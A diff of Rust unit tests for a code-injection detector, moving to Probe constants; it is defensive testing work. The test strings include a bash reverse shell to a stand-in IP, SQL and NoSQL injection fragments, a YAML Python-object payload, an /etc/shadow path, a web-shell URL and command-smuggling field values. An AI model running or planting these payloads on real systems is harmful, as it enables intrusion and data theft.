@@ -93,13 +93,12 @@ pub(super) fn inside(text: &str, found: &mut Vec<Finding>) {
 
 #[cfg(test)]
 mod tests {
-    use super::super::{FLAGGED, Kinds, inspect};
+    use super::super::Kinds;
+    use super::super::probe::Probe;
     use super::*;
 
-    fn labels(text: &str, place: Place) -> Vec<&'static str> {
-        let found = inspect(text, place, Kinds::NONE.with(Kind::CodeInjection));
-        found.into_iter().filter(|one| one.score >= FLAGGED).map(|one| one.label).collect()
-    }
+    const CODE: Probe = Probe(Place::Argument, Kinds::NONE.with(Kind::CodeInjection));
+    const ANSWER: Probe = Probe(Place::Result, Kinds::NONE.with(Kind::CodeInjection));
 
     #[test]
     fn each_class_is_found_in_arguments() {
@@ -126,11 +125,7 @@ mod tests {
             ("{\"$where\": \"1\"}", "nosql"),
             ("rO0ABXNyABFqYXZh", "code"),
         ] {
-            assert!(
-                labels(text, Place::Argument).contains(&label),
-                "{text}: {:?}",
-                labels(text, Place::Argument)
-            );
+            assert!(CODE.labels(text).contains(&label), "{text}: {:?}", CODE.labels(text));
         }
     }
 
@@ -151,7 +146,7 @@ mod tests {
             "\"Authorization\": \"Bearer ${env:TOKEN}\"",
             "if ready && state == Open || last != 0 { go() }",
         ] {
-            assert_eq!(labels(text, Place::Argument), Vec::<&str>::new(), "{text}");
+            assert_eq!(CODE.found(text), [], "{text}");
         }
     }
 
@@ -162,9 +157,9 @@ mod tests {
             "' OR 1=1 -- is a classic.",
             "<script src=\"/app.js\"></script>",
         ] {
-            assert_eq!(labels(text, Place::Result), Vec::<&str>::new(), "{text}");
+            assert_eq!(ANSWER.found(text), [], "{text}");
         }
-        assert_eq!(labels("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", Place::Result), ["shell"]);
+        assert_eq!(ANSWER.labels("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ["shell"]);
     }
 
     #[test]
@@ -187,11 +182,11 @@ mod tests {
             ("etc/shadow", "path"),
             ("http://198.51.100.7/c99.php", "ssrf"),
         ] {
-            if !labels(text, Place::Argument).contains(&label) {
+            if !CODE.labels(text).contains(&label) {
                 wrong.push(format!("MISS {text}"));
             }
             let inside = format!("The page explains in a few words what {text} is good for, and why.");
-            if labels(&inside, Place::Argument).contains(&label) {
+            if CODE.labels(&inside).contains(&label) {
                 wrong.push(inside);
             }
         }
@@ -216,7 +211,7 @@ mod tests {
             "http://10.0.0.7/status.php",
             "https://example.org/notes.txt",
         ] {
-            if !labels(text, Place::Argument).is_empty() {
+            if !CODE.found(text).is_empty() {
                 wrong.push(format!("FP {text}"));
             }
         }
@@ -262,7 +257,7 @@ mod tests {
             "<?xml version=\"1.0\"?><a b=\"&#x7C;id\">c</a>",
             "{\"a\": \";htop\"}",
         ] {
-            if labels(text, Place::Argument).is_empty() {
+            if !CODE.flags(text) {
                 wrong.push(format!("MISS {text}"));
             }
         }
@@ -288,7 +283,7 @@ mod tests {
             "The `get-service-attributes` example reads a service.",
             "aws devicefarm create-device-pool --rules file://device-rules.json",
         ] {
-            if !labels(text, Place::Argument).is_empty() {
+            if !CODE.found(text).is_empty() {
                 wrong.push(format!("FP {text}"));
             }
         }
@@ -304,11 +299,11 @@ mod tests {
             "!!python/object/apply:os.getcwd []",
             "http://localhost:2375/containers/json",
         ] {
-            assert_ne!(labels(text, Place::Argument), Vec::<&str>::new(), "{text}");
+            assert!(CODE.flags(text), "{text}");
         }
         for text in ["tar --checkpoint=100 -xf a.tgz", "http://localhost:8080/containers", "cosine\nsystem\n"]
         {
-            assert_eq!(labels(text, Place::Argument), Vec::<&str>::new(), "{text}");
+            assert_eq!(CODE.found(text), [], "{text}");
         }
     }
 }
